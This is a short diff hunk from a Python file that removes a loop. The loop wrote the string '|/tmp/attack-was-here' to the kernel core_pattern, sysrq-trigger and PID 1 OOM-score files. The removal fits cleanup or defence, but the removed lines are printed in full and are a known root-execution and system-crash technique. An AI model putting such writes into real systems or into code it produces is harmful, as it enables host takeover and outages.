@@ -23,12 +23,6 @@ for top in TOPS:
             act(path)
         except OSError:
             continue
-for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
-    try:
-        with open(path, "w") as file:
-            file.write("|/tmp/attack-was-here")
-    except OSError:
-        continue
 
 
 class Reshape:
